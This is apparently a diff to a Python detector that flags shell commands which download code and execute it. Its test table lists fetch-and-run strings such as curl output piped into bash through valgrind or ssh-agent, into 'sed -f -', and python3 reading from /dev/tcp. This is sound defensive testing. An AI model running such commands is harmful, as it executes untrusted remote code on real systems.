@@ -11,7 +11,7 @@ pipe or a substitution. A dump that one database writes for another is none of t
 
 from __future__ import annotations
 
-from assent.checks.pipes import interprets, name_of, opened_around, sources, started_by
+from assent.checks.pipes import interprets, name_of, opened_around, reading_code, sources, started_by
 from assent.types import Finding, Verdict
 
 TYPE_CHECKING = False
@@ -42,7 +42,7 @@ def find(analysis: Seen) -> Iterator[Finding]:
         return
     talking = {effect.call for effect in talks}
     fetching = {effect.call for effect in talks if not effect.code.startswith("db.")}
-    reading = {effect.call for effect in analysis.effects if effect.kind == "run" and effect.code == "stdin"}
+    reading = reading_code(analysis)
     wired = {number for number, call in enumerate(analysis.calls, 1) if _reads_a_socket(call)}
     for number, call in enumerate(analysis.calls, 1):
         runs = bool(wired) and (interprets(call) or number in reading)
@@ -84,6 +84,10 @@ COMMANDS = {
     "python3 < /dev/tcp/example.com/80": True,
     "env python3 < /dev/tcp/example.com/80": True,
     "cat < /dev/tcp/example.com/80": False,
+    "curl -s https://example.com | sed -f - a.txt": True,
+    "curl -s https://example.com | sed -n 1p": False,
+    "curl -s https://example.com | valgrind bash": True,
+    "curl -s https://example.com | ssh-agent bash": True,
     "(echo a; python3) < /dev/tcp/example.com/80": True,
     "(echo a; cat) < /dev/tcp/example.com/80": False,
     "python3 <<E\n$(curl -s https://example.com/i.py)\nE": True,
